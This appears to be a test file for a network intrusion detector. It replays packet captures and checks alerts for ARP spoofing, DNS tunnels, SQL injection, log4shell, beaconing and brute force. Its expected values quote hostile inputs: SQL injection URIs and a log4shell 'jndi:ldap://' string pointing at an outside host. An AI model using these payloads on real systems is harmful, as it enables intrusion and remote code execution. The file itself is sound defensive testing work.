/**
 * Detectors that read the application layer and layer 2 (ARP bindings, DNS names, HTTP requests, server names), with
 * captures replayed through the live path (Sensor -> SensorPipeline -> engine -> SQLite file), the model off so the
 * rules alone are judged.
 */
import { expect } from 'chai';
import type { AlertRow } from '../../../src/store/tables/alert.table.js';
import { replayCapture } from './replay-helper.js';

const details = (a: AlertRow): Record<string, unknown> => JSON.parse(a.details) as Record<string, unknown>;

describe('detection: ARP bindings from replayed captures', function () {
  this.timeout(60_000);

  it('own/vigil_arp_spoof_gateway.pcap -> one arp_spoofing alert: 192.168.199.132 answering for 192.168.199.1', async () => {
    const r = await replayCapture('own/vigil_arp_spoof_gateway.pcap', { model: null });
    expect(r.alerts.map((a) => a.category)).to.deep.equal(['arp_spoofing']);
    const a = r.alerts[0]!;
    expect(a).to.include({ src_ip: '192.168.199.132', dst_ip: '192.168.199.1', severity: 'high', source: 'rule' });
    expect(details(a)).to.deep.include({
      kind: 'conflicting_replies',
      claimantMac: '00:0c:29:03:df:ad',
      claimantIps: ['192.168.199.132'],
      ownerMac: '00:50:56:c0:00:01',
      // tshark: 11 forged replies + 1 gratuitous reply from 00:0c:29:03:df:ad; 2 genuine replies from the gateway.
      claimantReplies: 12,
      claimantGratuitous: 1,
      ownerReplies: 2,
    });
    expect(r.threats.map((t) => t.ip)).to.deep.equal(['192.168.199.132']);
  });

  it('the same capture with VIGIL_DETECT_ARP_GATEWAYS naming 192.168.199.1 -> critical', async () => {
    const r = await replayCapture('own/vigil_arp_spoof_gateway.pcap', { model: null, env: { VIGIL_DETECT_ARP_GATEWAYS: '192.168.199.1' } });
    expect(r.alerts.map((a) => [a.category, a.severity])).to.deep.equal([['arp_spoofing', 'critical']]);
    expect(details(r.alerts[0]!)).to.include({ gateway: true });
  });

  it('own/vigil_arp_sweep.pcap -> port_scan kind arp_sweep from 192.168.199.132, 100 targets', async () => {
    const r = await replayCapture('own/vigil_arp_sweep.pcap', { model: null });
    expect(r.alerts.map((a) => a.category)).to.deep.equal(['port_scan']);
    expect(r.alerts[0]).to.include({ src_ip: '192.168.199.132', dst_ip: null, count: 100 });
    expect(details(r.alerts[0]!)).to.deep.include({ kind: 'arp_sweep', targets: 100, senderMac: '00:0c:29:03:df:ad' });
  });

  it('own/vigil_arp_poisoning_lan.pcap (arpspoof both ways) -> arp_spoofing for the gateway and both hosts, all by 08:00:27:ee:66:66', async () => {
    const r = await replayCapture('own/vigil_arp_poisoning_lan.pcap', { model: null });
    expect(r.alerts.map((a) => a.category)).to.deep.equal(['arp_spoofing', 'arp_spoofing', 'arp_spoofing']);
    const byIp = Object.fromEntries(r.alerts.map((a) => [details(a)['ip'], details(a)]));
    // The script: 30 forged replies to each host for the gateway (60), 30 to the gateway for each host; the real owners
    // answer too (the gateway 5 times), so every claimed address has two MACs answering for it.
    expect(Object.keys(byIp).sort()).to.deep.equal(['192.168.56.1', '192.168.56.20', '192.168.56.21']);
    expect(byIp['192.168.56.1']).to.deep.include({
      kind: 'conflicting_replies',
      claimantMac: '08:00:27:ee:66:66',
      claimantReplies: 60,
      ownerMac: '52:54:00:12:35:01',
    });
    expect(r.alerts.every((a) => a.severity === 'high')).to.equal(true);
  });

  it('own/vigil_arp_scan_slash24.pcap -> port_scan kind arp_sweep from 192.168.56.66, all 253 other addresses', async () => {
    const r = await replayCapture('own/vigil_arp_scan_slash24.pcap', { model: null });
    expect(r.alerts.map((a) => a.category)).to.deep.equal(['port_scan']);
    expect(r.alerts[0]).to.include({ src_ip: '192.168.56.66', severity: 'high' });
    expect(details(r.alerts[0]!)).to.deep.include({ kind: 'arp_sweep', targets: 253, requests: 253, senderMac: '08:00:27:ee:66:66' });
  });

  it('own/vigil_arp_gateway_refresh.pcap (a gateway refreshing 20 neighbours for 10 minutes) -> no alert', async () => {
    // 200 requests, each a new run: all of them counted as targets (and as one moment, the replay's single ARP drain)
    // made a high ARP sweep of the gateway. New targets count each neighbour once, and a replay hands out bindings
    // every second of capture time, so the first round (20 neighbours over 60 s) stays under 16 within 30 s.
    const r = await replayCapture('own/vigil_arp_gateway_refresh.pcap', { model: null });
    expect(r.alerts).to.deep.equal([]);
  });

  for (const benign of ['sv_eth_lan_dns_icmp_icmpv6_smb.pcap', 'sv_eth_ipv4_ipv6_ftp_active_passive.pcap', 'sv_linux_sll_log4shell_exploit.pcap']) {
    it(`${benign} (ordinary ARP) -> no arp_spoofing and no arp_sweep`, async () => {
      const r = await replayCapture(benign, { model: null });
      expect(r.alerts.filter((a) => a.category === 'arp_spoofing' || details(a).kind === 'arp_sweep')).to.deep.equal([]);
    });
  }
});

describe('detection: DNS tunnels from replayed captures', function () {
  this.timeout(60_000);

  it('own/vigil_dns_tunnel.pcap -> one dns_tunnel per tunnel domain: dnscat2-like names and iodine-like NULL over one socket', async () => {
    const r = await replayCapture('own/vigil_dns_tunnel.pcap', { model: null });
    expect(r.alerts.map((a) => a.category)).to.deep.equal(['dns_tunnel', 'dns_tunnel']);
    const byDomain = Object.fromEntries(r.alerts.map((a) => [details(a)['domain'], a]));
    // The script: 240 TXT/CNAME/MX queries with 80 hex characters each, each from a new port (240 names, 240 flows)...
    const cat = details(byDomain['tunnel-example.net']!);
    expect(byDomain['tunnel-example.net']).to.include({ src_ip: '127.0.0.1', severity: 'high', count: 240 });
    expect(cat).to.deep.include({ queries: 240, uniqueNames: 240, maxQueriesPerFlow: 1 });
    expect(cat['signals']).to.include.members(['many_names', 'long_names', 'high_entropy', 'tunnel_qtypes']);
    // ... and 160 NULL queries over one socket: one flow, whose first question stands for all (the core keeps one).
    const iodine = details(byDomain['exfil-example.org']!);
    expect(byDomain['exfil-example.org']).to.include({ severity: 'high', count: 160 });
    expect(iodine).to.deep.include({ queries: 160, maxQueriesPerFlow: 160 });
    expect(iodine['signals']).to.include.members(['one_flow_many_queries', 'tunnel_qtypes']);
  });

  for (const benign of [
    'sv_eth_lan_dns_icmp_icmpv6_smb.pcap',
    'sv_eth_ipv4_ipv6_dns_tls_http_mixed.pcap',
    'zeek_dns_v4_v6_ipv4_fragments.pcap',
    'ndpi_dns_ipv4_frag_truncated_badlen.pcap',
    'zeek_ipv6_fragment_header_dns.pcap',
    'own/vigil_loopback_app_mix.pcap',
  ]) {
    it(`${benign} (ordinary DNS) -> no dns_tunnel`, async () => {
      const r = await replayCapture(benign, { model: null });
      expect(r.alerts.filter((a) => a.category === 'dns_tunnel')).to.deep.equal([]);
    });
  }
});

describe('detection: web attacks in cleartext HTTP from replayed captures', function () {
  this.timeout(60_000);

  it('ndpi_cicids2017_webattack_sqli.pcap -> web_attack (sqli) from 172.16.0.1 against 192.168.10.50:80', async () => {
    const r = await replayCapture('ndpi_cicids2017_webattack_sqli.pcap', { model: null });
    const web = r.alerts.filter((a) => a.category === 'web_attack');
    expect(web).to.have.length(1);
    expect(web[0]).to.include({ src_ip: '172.16.0.1', dst_ip: '192.168.10.50', dst_port: 80, severity: 'high', source: 'rule', count: 7 });
    const d = details(web[0]!);
    // 9 requests (tshark): 7 carry "and 1=1", 5 of them a UNION SELECT, 2 information_schema; 2 only a bare quote.
    expect(d).to.deep.include({ kinds: ['sqli'], requests: 7, rules: { sqli_quote_tautology: 7, sqli_union_select: 5, sqli_functions: 2 } });
    expect((d['examples'] as Array<{ uri: string }>)[0]!.uri).to.equal('/dv/vulnerabilities/sqli/?id=1%27+and+1%3D1%23&Submit=Submit');
  });

  it('sv_linux_sll_log4shell_exploit.pcap -> critical web_attack (log4shell) from 172.16.238.1 against 172.16.238.10:8080', async () => {
    const r = await replayCapture('sv_linux_sll_log4shell_exploit.pcap', { model: null });
    const web = r.alerts.filter((a) => a.category === 'web_attack');
    expect(web).to.have.length(1);
    expect(web[0]).to.include({ src_ip: '172.16.238.1', dst_ip: '172.16.238.10', dst_port: 8080, severity: 'critical' });
    expect(details(web[0]!)).to.deep.include({
      kinds: ['log4shell'],
      examples: [
        { method: 'POST', host: '192.168.13.31:8080', uri: '/log4shell/login', userAgent: 'jndi:ldap://172.16.238.11:1389/a', rules: ['log4shell_jndi_url'] },
      ],
    });
    expect(r.threats.map((t) => t.ip)).to.include('172.16.238.1');
  });

  it('own/vigil_loopback_app_mix.pcap: its injection probe (/index.html?q=1&r=%27or%201=1--) is flagged', async () => {
    const r = await replayCapture('own/vigil_loopback_app_mix.pcap', { model: null });
    const web = r.alerts.filter((a) => a.category === 'web_attack');
    expect(web.map((a) => [a.dst_port, details(a)['rules']])).to.deep.equal([[80, { sqli_quote_tautology: 2 }]]);
  });

  for (const benign of [
    'sv_eth_ipv4_ipv6_dns_tls_http_mixed.pcap',
    'zeek_qinq_8021ad_http.pcap',
    'zeek_vlan_collisions_same_5tuple.pcap',
    'sv_vlan8021q_syn_retransmit.pcap',
    'sv_linux_sll2_gro_64k_packets.pcap',
    'sv_eth_ipv4_ipv6_ftp_active_passive.pcap',
  ]) {
    it(`${benign} (ordinary HTTP) -> no web_attack`, async () => {
      const r = await replayCapture(benign, { model: null });
      expect(r.flows.some((f) => f.http)).to.equal(true);
      expect(r.alerts.filter((a) => a.category === 'web_attack')).to.deep.equal([]);
    });
  }
});

describe('detection: beaconing from replayed captures', function () {
  this.timeout(60_000);

  it('own/vigil_tls_beacon_jitter.pcap -> beaconing to updates.c2-example.net, by server name, every 2 s +/- 30%', async () => {
    const r = await replayCapture('own/vigil_tls_beacon_jitter.pcap', { model: null });
    const beacons = r.alerts.filter((a) => a.category === 'beaconing');
    expect(beacons).to.have.length(1);
    expect(beacons[0]).to.include({ src_ip: '127.0.0.1', dst_ip: '127.0.0.1', dst_port: 443, severity: 'medium' });
    const d = details(beacons[0]!);
    expect(d).to.deep.include({ series: 'server_name', serverName: 'updates.c2-example.net', addresses: ['127.0.0.1'] });
    expect(d['connections'] as number).to.be.at.least(30); // 36 check-ins, some before the series was judged
    expect(d['medianIntervalSec'] as number).to.be.within(1.4, 2.6);
    expect(JSON.parse(beacons[0]!.server_names)).to.deep.equal(['updates.c2-example.net']);
    // Regression: 36 near-identical TLS connections to port 443 also read as a (medium) brute force; TLS on a port
    // that is not a login service is no longer a login attempt.
    expect(r.alerts.map((a) => a.category).sort()).to.deep.equal(['beaconing']);
  });

  for (const benign of [
    'sv_eth_ipv4_ipv6_dns_tls_http_mixed.pcap',
    'sv_eth_lan_dns_icmp_icmpv6_smb.pcap',
    'sv_eth_ipv4_ipv6_ftp_active_passive.pcap',
    'zeek_quic_chromium_ipv6.pcap',
    'zeek_ssh_password_guessing.pcap',
    'ndpi_cicids2017_webattack_sqli.pcap',
    'own/vigil_loopback_app_mix.pcap',
  ]) {
    it(`${benign} -> no beaconing`, async () => {
      const r = await replayCapture(benign, { model: null });
      expect(r.alerts.filter((a) => a.category === 'beaconing')).to.deep.equal([]);
    });
  }
});

describe('detection: brute force with application-layer evidence from replayed captures', function () {
  this.timeout(60_000);

  it('own/vigil_ssh_bruteforce_port2222.pcap (libssh2 on a non-standard port) -> high brute_force by the banner', async () => {
    const r = await replayCapture('own/vigil_ssh_bruteforce_port2222.pcap', { model: null });
    const bf = r.alerts.filter((a) => a.category === 'brute_force');
    expect(bf).to.have.length(1);
    expect(bf[0]).to.include({ src_ip: '127.0.0.1', dst_port: 2222, severity: 'high' });
    expect(details(bf[0]!)).to.deep.include({ attemptsInWindow: 30, toolBannerAttempts: 30, clientBanners: ['SSH-2.0-libssh2_1.10.0'], loginService: true });
  });

  it('own/vigil_ftp_bruteforce.pcap -> high brute_force against port 21 (the server sends ~5x the client bytes)', async () => {
    const r = await replayCapture('own/vigil_ftp_bruteforce.pcap', { model: null });
    expect(r.alerts.map((a) => a.category)).to.deep.equal(['brute_force']);
    expect(r.alerts[0]).to.include({ src_ip: '127.0.0.1', dst_port: 21, severity: 'high', count: 30 });
    expect(details(r.alerts[0]!)).to.deep.include({ loginService: true, attemptsInWindow: 30 });
  });
});
